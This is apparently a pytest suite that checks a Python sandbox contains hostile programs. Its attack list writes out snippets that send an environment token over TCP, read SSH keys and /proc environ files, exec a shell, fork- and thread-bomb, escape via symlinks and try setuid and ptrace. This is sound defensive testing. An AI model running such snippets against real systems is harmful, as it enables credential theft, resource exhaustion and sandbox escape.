"""The sandbox attack suite: hostile programs run through the real sandbox (real subprocesses, real kernel limits).

Each program tries one way out. For every one: the parent survives, no secret (environment, ~/.ssh, EVO_HOME) is in
its output, nothing appears outside its temp dir, no connection reaches a real server listening on loopback, and
nothing it started is still running afterwards. The table of outcomes is printed at the end of the run.
"""

from __future__ import annotations

import os
import socket
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest

from evo_tr.sandbox import SandboxLimits, isolation, run_python

from .conftest import report_row

SECRET = f"evo-secret-{uuid.uuid4().hex}"
LIMITS = SandboxLimits(timeout_s=4.0, memory_mb=256, file_mb=4)


@dataclass(frozen=True)
class Attack:
    name: str
    code: str  # formatted with the context's fields
    contained: str  # what "contained" means for this one, for the table


ATTACKS = [
    Attack("tcp connect (socket module)", "import socket\ns = socket.socket(); s.settimeout(2); s.connect(('127.0.0.1', {tcp_port})); s.sendall(__import__('os').environ.get('HF_TOKEN', '').encode())", "refused"),
    Attack("tcp connect (_socket, past the stubs)", "import _socket\ns = _socket.socket(); s.settimeout(2); s.connect(('127.0.0.1', {tcp_port})); s.send(b'x')", "refused"),
    Attack("http request (urllib)", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{tcp_port}/', timeout=2)", "refused"),
    Attack("udp datagram (_socket)", "import _socket\ns = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', {udp_port}))", "refused"),
    Attack("dns lookup", "import _socket\nprint(_socket.getaddrinfo('pypi.org', 443))", "refused"),
    Attack("os.system", "import os, sys\nrc = os.system('id > {outside}/system.txt')\nsys.exit(0 if rc == 0 else f'os.system refused: {{rc}}')", "no program runs"),
    Attack("subprocess.run(['id'])", "import subprocess\nprint(subprocess.run(['id'], capture_output=True, text=True).stdout)", "no program runs"),
    Attack("exec a shell via os.execv", "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])", "no program runs"),
    Attack("fork bomb", "import os, time\nkids = 0\nwhile kids < 10000:\n    if os.fork() == 0:\n        time.sleep(30); os._exit(0)\n    kids += 1", "capped"),
    Attack("thread bomb", "import threading, time\nfor _ in range(10000):\n    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()", "capped"),
    Attack("write outside its temp dir", "open('{outside}/evo_escape_marker', 'w').write('escaped')", "denied"),
    Attack("write into EVO_HOME", "open('{evo_home}/planted.txt', 'w').write('planted')", "denied"),
    Attack("read ~/.ssh", "print(open('{home}/.ssh/id_ed25519').read())", "denied"),
    Attack("list and read EVO_HOME", "import os\nprint(os.listdir('{evo_home}')); print(open('{evo_home}/secret.txt').read())", "denied"),
    Attack("environment secrets", "import os\nprint(dict(os.environ)); print(open('/proc/self/environ', 'rb').read())", "not there"),
    Attack("the parent's environment via /proc", "print(open('/proc/{parent_pid}/environ', 'rb').read())", "denied"),
    Attack("/proc/self/root and cwd tricks", "import os\nprint(os.listdir('/proc/self/root{evo_home}')); print(open('/proc/1/cwd/../../etc/passwd').read())", "denied"),
    Attack("symlink out of the temp dir", "import os\nos.symlink('{evo_home}', 'link')\nprint(open('link/secret.txt').read())", "denied"),
    Attack("hard link of an outside file", "import os\nos.link('{evo_home}/secret.txt', 'copy.txt')\nprint(open('copy.txt').read())", "denied"),
    Attack("infinite loop", "while True:\n    pass", "killed at the time limit"),
    Attack("memory hog", "blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 1024 * 1024))", "MemoryError"),
    Attack("flood of output", "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)", "cut at the file limit"),
    Attack("fd exhaustion", "files = [open('main.py') for _ in range(100000)]", "capped"),
    Attack("signals to the parent", "import os, signal\nfor sig in (signal.SIGTERM, signal.SIGKILL):\n    os.kill({parent_pid}, sig)", "denied"),
    Attack("ctypes: setuid(0), unshare, ptrace", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
           "assert libc.setuid(0) != 0 and libc.unshare(0x00020000) != 0 and libc.ptrace(16, {parent_pid}, 0, 0) != 0, 'escalated'\n"
           "raise SystemExit('all refused')", "refused"),
    Attack("import evo_tr to reach the stores", "import sys\nsys.path.insert(0, '{src}')\nimport evo_tr.memory\nprint(evo_tr.memory)", "not importable"),
    Attack("daemon that outlives the run", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
           "        time.sleep(2); open('{workdir_marker}', 'w').write('alive')\n    os._exit(0)\nopen('alive.txt', 'w').write('{workdir_marker}')", "killed with the run"),
]


class Listener:
    """A real TCP and UDP server on loopback that counts what reaches it."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.received = 0
        self.stop = threading.Event()
        self.threads = [threading.Thread(target=self._accept, daemon=True), threading.Thread(target=self._recv, daemon=True)]
        for t in self.threads:
            t.start()

    def _accept(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.tcp.accept()
                self.received += 1
                conn.close()
            except OSError:
                pass

    def _recv(self) -> None:
        while not self.stop.is_set():
            try:
                self.udp.recv(100)
                self.received += 1
            except OSError:
                pass

    def close(self) -> None:
        self.stop.set()
        for t in self.threads:
            t.join()
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def target(tmp_path_factory, evo_home):
    """What an attacker wants: secrets in a (world-readable) ~/.ssh, in EVO_HOME and in the environment."""
    home = tmp_path_factory.mktemp("victim-home")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text(SECRET)
    (evo_home / "secret.txt").write_text(SECRET)
    for p in (home, home / ".ssh", home / ".ssh" / "id_ed25519", evo_home, evo_home / "secret.txt"):
        p.chmod(0o755 if p.is_dir() else 0o644)  # readable by anyone: only the sandbox's own walls keep them out
    for p in reversed(evo_home.parents):
        if str(p).startswith(str(Path(tmp_path_factory.getbasetemp()).parent)):
            p.chmod(p.stat().st_mode | 0o055)
    outside = tmp_path_factory.mktemp("outside")
    outside.chmod(0o777)
    listener = Listener()
    ctx = {"home": home, "evo_home": evo_home, "outside": outside, "tcp_port": listener.tcp.getsockname()[1],
           "udp_port": listener.udp.getsockname()[1], "parent_pid": os.getpid(), "secret": SECRET,
           "src": Path(__file__).resolve().parents[1] / "src", "workdir_marker": outside / "daemon_marker"}
    yield ctx, listener
    listener.close()


def _leftover_processes(before: set[int]) -> list[int]:
    """Processes that appeared during the run and are still alive (not zombies)."""
    alive = []
    for entry in Path("/proc").glob("[0-9]*"):
        pid = int(entry.name)
        if pid in before:
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        if ") Z" not in stat and "evo-sandbox" in (entry / "cmdline").read_bytes().decode(errors="replace"):
            alive.append(pid)
    return alive


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_hostile_program_is_contained(attack: Attack, target, monkeypatch):
    ctx, listener = target
    monkeypatch.setenv("HF_TOKEN", SECRET)
    monkeypatch.setenv("EVO_API_KEY", SECRET)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    before = {int(p.name) for p in Path("/proc").glob("[0-9]*")}
    received = listener.received
    result = run_python(attack.code.format(**ctx), LIMITS)
    time.sleep(0.3 if "daemon" not in attack.name else 2.5)  # a daemon would write its marker after 2 s

    assert SECRET not in result.stdout and SECRET not in result.stderr, "a secret reached the output"
    assert not (ctx["outside"] / "evo_escape_marker").exists() and not (ctx["outside"] / "system.txt").exists()
    assert not (ctx["outside"] / "daemon_marker").exists(), "a process outlived the run"
    assert not (ctx["evo_home"] / "planted.txt").exists()
    assert listener.received == received, "a packet or connection reached the loopback server"
    assert _leftover_processes(before) == []
    assert len(result.stdout) <= 20_000 and len(result.stderr) <= 20_000
    if attack.name == "infinite loop":
        assert result.timed_out
    elif attack.name == "memory hog":
        assert "MemoryError" in result.stderr
    elif attack.name == "ctypes: setuid(0), unshare, ptrace":
        assert result.stderr.strip().endswith("all refused")
    elif attack.name != "daemon that outlives the run":
        assert not result.ok, f"{attack.name}: the program ran to the end: {result.stdout[-300:]} {result.stderr[-300:]}"
    report_row("Sandbox attack suite", {"attack": attack.name, "contained": attack.contained, "how": result.error_tail[:70]})


def test_isolation_is_reported_and_at_its_strongest_where_the_system_allows():
    iso = isolation()
    assert iso["works"] and iso["network"].startswith("namespace")
    if os.geteuid() == 0:  # as CI runs: an unprivileged user and a PID namespace
        assert iso["user"] != "0" and iso["pid_namespace"]
    assert iso["filesystem"].startswith("landlock") and iso["exec"] == "denied"
    assert iso["processes"]
